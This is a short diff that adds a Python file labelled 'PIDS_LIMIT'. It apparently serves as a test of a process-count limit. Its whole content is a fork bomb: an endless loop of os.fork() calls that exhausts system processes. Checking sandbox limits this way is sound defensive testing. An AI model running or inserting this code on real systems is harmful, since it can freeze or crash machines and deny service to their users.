@@ -1,0 +1,4 @@
+# PIDS_LIMIT
+import os
+while True:
+    os.fork()
